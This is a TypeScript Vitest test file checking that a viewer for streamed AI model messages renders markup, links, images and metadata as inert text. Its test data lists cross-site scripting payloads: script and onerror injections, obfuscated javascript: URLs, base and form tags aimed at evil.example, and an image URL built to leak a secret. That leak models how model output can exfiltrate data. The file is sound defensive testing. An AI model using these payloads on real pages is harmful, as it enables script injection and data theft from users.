import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { Writer } from "../log";
import { buttonNamed, cleanUp, drawn, FakeKernel, texts } from "./fakeKernel";

const page = window as unknown as { pwned?: unknown };
let requests: string[] = [];
let observer: PerformanceObserver;

beforeEach(() => {
  delete page.pwned;
  requests = [];
  observer = new PerformanceObserver((list) => {
    requests.push(...list.getEntries().map((entry) => entry.name));
  });
  observer.observe({ type: "resource" });
});
afterEach(() => {
  observer.disconnect();
  cleanUp();
});

/** Show a message that says something, in the end and while it grows. */
async function show(text: string, settings: Parameters<Writer["message"]>[0] = {}) {
  const kernel = new FakeKernel({ count: 1, status: "running" }).open();
  const el = kernel.render();
  const writer = new Writer().start().task("call_model");
  writer.message(settings);
  for (const piece of text.match(/[\s\S]{1,7}/g) ?? []) {
    writer.token(piece);
    kernel.send(writer.events);
  }
  await drawn();
  writer.finish().end();
  kernel.send(writer.events);
  await drawn(5);
  return el;
}

const markup = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<svg onload='window.pwned = 1'></svg>",
  "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
  "<style>body { display: none }</style>",
  "<a href='javascript:window.pwned = 1'>x</a>",
  "<details open ontoggle='window.pwned = 1'>",
  "<math><mtext></p><img src=x onerror='window.pwned = 1'>",
  "text <b onmouseover='window.pwned = 1'>bold</b> text",
  "<!-- <img src=x onerror='window.pwned = 1'> -->",
  "<base href='https://evil.example/'>",
  "<form action='https://evil.example/'><input name=a></form>",
];

test.each(markup)("markup is text: %s", async (text) => {
  const el = await show(`Before.\n\n${text}\n\nAfter.`);
  expect(el.querySelector(".lgn-body")?.textContent).toContain(text);
  const made = [...el.querySelectorAll(".lgn-body *")].map((each) => each.localName);
  expect(new Set(made)).toEqual(new Set(["div", "p"]));
  expect(page.pwned).toBeUndefined();
});

test.each([
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#x6a;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x](/lab?reset)",
  "[x](#top)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "<javascript:alert(x)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
])("no link, no image: %s", async (text) => {
  const el = await show(text);
  expect(el.querySelector(".lgn-body :is(a, img, button)")).toBeNull();
  expect(el.querySelector(".lgn-body")?.textContent).toContain("x");
});

test("links lead out safely", async () => {
  const el = await show("[a](https://example.org/a?b&amp;c) <https://b.org> c@d.org www.e.org");
  const links = [...el.querySelectorAll<HTMLAnchorElement>(".lgn-body a")];
  expect(links.map((link) => link.getAttribute("href"))).toEqual([
    "https://example.org/a?b&c",
    "https://b.org/",
    "mailto:c@d.org",
    "http://www.e.org/",
  ]);
  for (const link of links) {
    expect([link.target, link.rel]).toEqual(["_blank", "noopener noreferrer"]);
  }
});

test("an image is fetched when the reader clicks, not before", async () => {
  const pixel = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";
  const el = await show(`![chart](https://evil.example/leak?secret=1)\n\n![dot](${pixel})`);
  expect(el.querySelector("img")).toBeNull();
  expect(texts(el, ".lgn-chip")).toEqual(["Show chart\nevil.example", "Show dot\nembedded"]);
  expect(requests.filter((url) => url.includes("evil"))).toEqual([]);
  buttonNamed(el, /^Show dot/).click();
  expect(el.querySelector("img")?.src).toBe(pixel);
});

test("names, metadata, errors and tool calls are text too", async () => {
  const evil = "<img src=x onerror='window.pwned = 1'>";
  const kernel = new FakeKernel({
    count: 1,
    status: "running",
    graph: { name: evil, input: { kind: "text" } },
  }).open();
  const el = kernel.render();
  const writer = new Writer().start(evil).task(evil);
  writer.message({
    name: evil,
    role: "ai",
    metadata: { [evil]: evil, tags: [evil], ls_model_name: evil },
  });
  writer.token(evil, { kind: "tool_call", call_id: evil, name: evil } as object);
  writer.add({ type: "interrupt", id: evil, value: { [evil]: evil } });
  const error = { type: evil, message: evil, traceback: evil };
  writer.finish().end("error", { error, state: evil });
  kernel.send(writer.events);
  kernel.set({ status: "error", problem: evil });
  await drawn(5);
  expect(el.querySelector("img")).toBeNull();
  expect(page.pwned).toBeUndefined();
  for (const part of [".lgn-name", ".lgn-node", ".lgn-call-name", ".lgn-failed", ".lgn-sidebar"]) {
    expect(el.querySelector(part)?.textContent).toContain(evil);
  }
});

describe("texts that are hard on the lexer", () => {
  test.each([
    ["deep quotes", ">".repeat(5000)],
    [
      "deep lists",
      Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
    ],
    ["many brackets", "[".repeat(3000)],
    ["many stars", "*a ".repeat(2000)],
    ["a wide table", `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n|${"b|".repeat(300)}`],
    ["names of the prototype", "[__proto__]: https://a.b\n\n[__proto__] [constructor]"],
    ["control characters", "a\u0000b\u001b[31mc\u202ed"],
  ])("%s", async (_, text) => {
    const el = await show(text);
    expect(el.querySelector(".lgn-body")?.textContent?.length).toBeGreaterThan(0);
    expect(texts(el, ".lgn-status")).toEqual(["Done"]);
  });
});
